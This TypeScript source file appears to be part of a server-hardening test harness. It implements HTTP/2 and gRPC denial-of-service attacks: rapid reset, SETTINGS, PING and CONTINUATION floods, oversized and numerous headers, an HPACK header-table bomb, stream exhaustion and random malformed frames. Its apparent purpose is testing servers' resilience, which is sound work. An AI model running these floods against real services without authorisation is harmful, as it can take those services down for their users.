import type { Attack, AttackResult, AttackTarget } from './attack';
import { openHttp2, pause, scaled } from './attack';
import {
  callHeaders,
  continuation,
  data,
  frame,
  frameType,
  grpcMessage,
  headerBlock,
  indexed,
  keptLiteral,
  openHeaders,
  ping,
  resetStream,
  settings,
} from './http2-frames';
import type { RawConnection } from './raw-connection';

const mebibyte = 1_048_576;
const maxFrameBytes = 16_384;
/** HPACK's table holds 4096 bytes: a header of nearly that size fits in. */
const keptHeaderBytes = 3_900;
const framesAtOnce = 500;

/** Wrong uses of HTTP/2. */
export const frameAttacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    run: (target: AttackTarget): Promise<AttackResult> =>
      flood(target, 50_000, (i) => {
        const stream = 2 * i + 1;
        return Buffer.concat([callHeaders(stream, target.unaryPath), resetStream(stream)]);
      }),
  },
  {
    name: 'rapid reset of streams',
    run: (target: AttackTarget): Promise<AttackResult> =>
      flood(target, 50_000, (i) => {
        const stream = 2 * i + 1;
        return Buffer.concat([
          callHeaders(stream, target.streamPath),
          data(stream, grpcMessage(target.random.bytes(20))),
          resetStream(stream),
        ]);
      }),
  },
  {
    name: 'SETTINGS flood',
    run: (target: AttackTarget): Promise<AttackResult> => flood(target, 100_000, (i) => settings(i % 2 === 0 ? 0 : mebibyte)),
  },
  {
    name: 'SETTINGS flood that is not read',
    run: (target: AttackTarget): Promise<AttackResult> => flood(target, 100_000, () => settings(0), false),
  },
  { name: 'PING flood', run: (target: AttackTarget): Promise<AttackResult> => flood(target, 100_000, () => ping()) },
  {
    name: 'PING flood that is not read',
    run: (target: AttackTarget): Promise<AttackResult> => flood(target, 100_000, () => ping(), false),
  },
  {
    name: 'empty DATA frames',
    run: (target: AttackTarget): Promise<AttackResult> => onOneStream(target, 50_000, () => data(1, Buffer.alloc(0))),
  },
  {
    name: 'DATA frames of one byte',
    run: (target: AttackTarget): Promise<AttackResult> => onOneStream(target, 50_000, () => data(1, Buffer.alloc(1))),
  },
  {
    name: 'CONTINUATION flood',
    run: (target: AttackTarget): Promise<AttackResult> =>
      onOpenHeaders(target, 5_000, () => continuation(1, headerBlock('/x', [['x', 'y'.repeat(1_000)]]))),
  },
  {
    name: 'empty CONTINUATION flood',
    run: (target: AttackTarget): Promise<AttackResult> => onOpenHeaders(target, 50_000, () => continuation(1, Buffer.alloc(0))),
  },
  { name: 'giant headers', run: giantHeaders },
  { name: 'many headers', run: manyHeaders },
  { name: 'header table bomb', run: headerTableBomb },
  { name: 'streams that say nothing', run: openStreams },
  { name: 'frames at random', run: randomFrames },
];

/** Frames on one connection after another, until so many have been taken. */
async function flood(target: AttackTarget, count: number, make: (i: number) => Buffer, reads = true): Promise<AttackResult> {
  const total = scaled(target, count);
  for (let done = 0; done < total;) {
    const connection = await openHttp2(target, { reads });
    let i = 0;
    for (; connection.isOpen && done + i < total; i += framesAtOnce) {
      await connection.write(Buffer.concat(Array.from({ length: framesAtOnce }, (_, j) => make(i + j))));
    }
    done += Math.max(i, framesAtOnce);
    await gone(connection);
  }
  return { inputs: total };
}

async function onOneStream(target: AttackTarget, count: number, make: () => Buffer): Promise<AttackResult> {
  let begun = false;
  return flood(target, count, (i) => {
    begun = i === 0;
    return begun ? Buffer.concat([callHeaders(1, target.streamPath), make()]) : make();
  });
}

async function onOpenHeaders(target: AttackTarget, count: number, make: () => Buffer): Promise<AttackResult> {
  return flood(target, count, (i) => (i === 0 ? openHeaders(1, target.unaryPath) : make()));
}

async function gone(connection: RawConnection): Promise<void> {
  connection.destroy();
  await connection.ended;
}

/** One header of many sizes, up to 16 MiB. */
async function giantHeaders(target: AttackTarget): Promise<AttackResult> {
  const sizes = [8_000, 60_000, 70_000, mebibyte, 16 * mebibyte].slice(0, Math.max(4, scaled(target, 5)));
  for (const size of sizes) {
    const connection = await openHttp2(target);
    const block = headerBlock(target.unaryPath, [['x-large', 'a'.repeat(size)]]);
    await connection.write(frame(frameType.headers, 0, 1, block.subarray(0, maxFrameBytes)));
    for (let at = maxFrameBytes; at < block.length && connection.isOpen; at += maxFrameBytes) {
      await connection.write(continuation(1, block.subarray(at, at + maxFrameBytes), at + maxFrameBytes >= block.length));
    }
    await gone(connection);
  }
  return { inputs: sizes.length };
}

/** Calls with as many small headers as fit into a frame. */
async function manyHeaders(target: AttackTarget): Promise<AttackResult> {
  const total = scaled(target, 500);
  const headers = Array.from({ length: 1_000 }, (_, i) => [`x-${i}`, 'v'] as const);
  for (let done = 0; done < total;) {
    const connection = await openHttp2(target);
    for (let stream = 1; connection.isOpen && done < total; stream += 2, done++)
      await connection.write(callHeaders(stream, target.unaryPath, headers));
    await gone(connection);
  }
  return { inputs: total };
}

/** A few bytes that name a large header thousands of times. */
async function headerTableBomb(target: AttackTarget): Promise<AttackResult> {
  const total = scaled(target, 200);
  for (let done = 0; done < total;) {
    const connection = await openHttp2(target);
    for (let stream = 1; connection.isOpen && done < total; stream += 2, done++) {
      const kept = stream === 1 ? keptLiteral('x', 'a'.repeat(keptHeaderBytes)) : Buffer.alloc(0);
      const block = Buffer.concat([headerBlock(target.unaryPath, []), kept, indexed(10_000)]);
      await connection.write(frame(frameType.headers, 4, stream, block));
    }
    await gone(connection);
  }
  return { inputs: total };
}

/** As many calls as a server lets begin, on many connections, without a message. */
async function openStreams(target: AttackTarget): Promise<AttackResult> {
  const [count, streams] = [scaled(target, 20), 2_000];
  const connections: RawConnection[] = [];
  for (let i = 0; i < count; i++) {
    const connection = await openHttp2(target);
    connections.push(connection);
    const path = i % 2 === 0 ? target.unaryPath : target.streamPath;
    await connection.write(Buffer.concat(Array.from({ length: streams }, (_, j) => callHeaders(2 * j + 1, path))));
  }
  await pause(500);
  await Promise.all(connections.map(gone));
  return { inputs: count * streams };
}

/** Frames of any type, flags, stream and length. */
async function randomFrames(target: AttackTarget): Promise<AttackResult> {
  const { random } = target;
  const [total, perConnection] = [scaled(target, 20_000), 20];
  for (let done = 0; done < total; done += perConnection) {
    const connection = await openHttp2(target);
    await connection.write(callHeaders(1, random.integer(2) === 0 ? target.unaryPath : target.streamPath));
    for (let i = 0; i < perConnection && connection.isOpen; i++) await connection.write(randomFrame(target));
    await gone(connection);
  }
  return { inputs: total };
}

function randomFrame({ random, unaryPath }: AttackTarget): Buffer {
  const chance = random.integer(6);
  const stream = [0, 1, 3, 2, 2 ** 31 - 1][random.integer(5)] ?? 0;
  if (chance === 0) return callHeaders(stream, random.integer(2) === 0 ? unaryPath : '/');
  if (chance === 1) return data(stream, grpcMessage(random.bytes(random.integer(100)), random.integer(2) === 0), random.integer(2) === 0);
  const whole = frame(random.integer(12), random.integer(256), stream, random.bytes(random.integer(40)));
  if (chance === 2) whole.writeUIntBE(random.integer(2 ** 24), 0, 3);
  return whole;
}
